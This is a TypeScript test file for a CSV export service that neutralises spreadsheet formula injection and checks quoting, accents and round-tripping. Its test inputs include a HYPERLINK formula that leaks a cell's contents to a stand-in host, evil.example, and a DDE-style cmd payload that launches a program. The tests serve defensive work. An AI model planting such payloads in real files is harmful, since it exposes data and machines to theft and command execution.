import { neutraliseFormula, toCsv } from '../../../server/services/csv-export.service';
import { parseCsv } from '../../helpers/csv';

const BOM = '\uFEFF';

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1'],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'],
    ['+33 1 23 45 67 89'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-12'],
  ])('when a text cell is %j, then it gets a leading apostrophe and is otherwise unchanged', (hostile) => {
    expect(neutraliseFormula(hostile)).toBe(`'${hostile}`);
  });

  it.each([['182 000 faux pass'], [''], ['Intérieur = ministère'], ['a@b.example'], ["'=already text"], ['12']])(
    'when a text cell is %j, then it is left as it is',
    (safe) => {
      expect(neutraliseFormula(safe)).toBe(safe);
    },
  );
});

describe('toCsv', () => {
  it('when a row holds hostile text, a negative number, booleans, dates and blanks, then each is written as a spreadsheet should read it', () => {
    const csv = toCsv(
      ['text', 'number', 'numberAsText', 'flag', 'off', 'at', 'none', 'missing'],
      [['=HYPERLINK("http://evil.example","x")', -12, '-12', true, false, new Date('2021-12-20T15:00:00Z'), null, undefined]],
    );
    expect(csv).toBe(
      `${BOM}text,number,numberAsText,flag,off,at,none,missing\r\n` +
        `"'=HYPERLINK(""http://evil.example"",""x"")",-12,'-12,true,false,2021-12-20T15:00:00.000Z,,\r\n`,
    );
  });

  it('when cells hold commas, quotes, line breaks and accents, then reading the file back gives them unchanged', () => {
    const rows = [
      ['Intérieur, « 182 000 »', 'il a dit "oui"\r\npuis non', '@x'],
      ['', '3,5', '\tcmd'],
    ];
    const parsed = parseCsv(toCsv(['a', 'b', 'c'], rows).slice(BOM.length));
    expect(parsed).toEqual([['a', 'b', 'c'], ['Intérieur, « 182 000 »', 'il a dit "oui"\r\npuis non', "'@x"], ['', '3,5', "'\tcmd"]]);
  });

  it('when there are no rows, then the file is the header alone', () => {
    expect(toCsv(['slug', 'url'], [])).toBe(`${BOM}slug,url\r\n`);
  });
});
